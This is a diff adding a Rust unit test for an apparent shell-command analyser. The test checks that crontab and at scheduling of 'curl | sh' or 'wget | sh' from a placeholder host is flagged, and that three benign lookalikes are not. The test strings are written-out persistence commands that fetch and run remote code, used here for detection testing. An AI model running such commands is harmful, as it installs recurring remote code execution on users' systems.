@@ -283,3 +283,32 @@ fn nothing_is_told_of_texts_that_only_speak_of_commands() {
         assert_eq!(told(language, text), [""; 0], "{text}");
     }
 }
+
+#[test]
+fn what_a_group_writes_is_read_as_one_and_a_timetable_is_code() {
+    let runs_fetched = |line: &String| line.starts_with("sh <- ") && line.ends_with("[fetched]");
+    for text in [
+        "(crontab -l 2>/dev/null; echo \"*/5 * * * * curl -s https://a.invalid | sh\") | crontab -",
+        "{ echo '0 3 * * * wget -qO- https://a.invalid | sh'; crontab -l; } | crontab -",
+        "(crontab -l && echo '@reboot curl https://a.invalid | sh') | sort | crontab -",
+        "crontab <<EOF\n0 4 * * 1 curl https://a.invalid | sh\nEOF\n",
+        "cat <<'EOF' | crontab -\n0 4 * * 1 curl https://a.invalid | sh\nEOF\n",
+        "crontab <(echo '* * * * * curl https://a.invalid | sh')",
+        "echo '* * * * * curl https://a.invalid | sh' > t.txt\ncrontab t.txt",
+        "echo 'curl https://a.invalid | sh' | at now + 5 minutes",
+        "at midnight <<< 'curl https://a.invalid | sh'",
+        "(echo set -e; curl https://a.invalid) | sh",
+        "{ curl https://a.invalid; echo done; } | sh",
+    ] {
+        let told = told(Language::Shell, text);
+        assert!(told.iter().any(runs_fetched), "{text}: {told:#?}");
+    }
+    for text in [
+        "(crontab -l; echo '0 5 * * * ./report.sh') | crontab -",
+        "(curl https://a.invalid; echo done) | tee page.html",
+        "echo 'curl https://a.invalid | sh'",
+    ] {
+        let told = told(Language::Shell, text);
+        assert!(!told.iter().any(runs_fetched), "{text}: {told:#?}");
+    }
+}
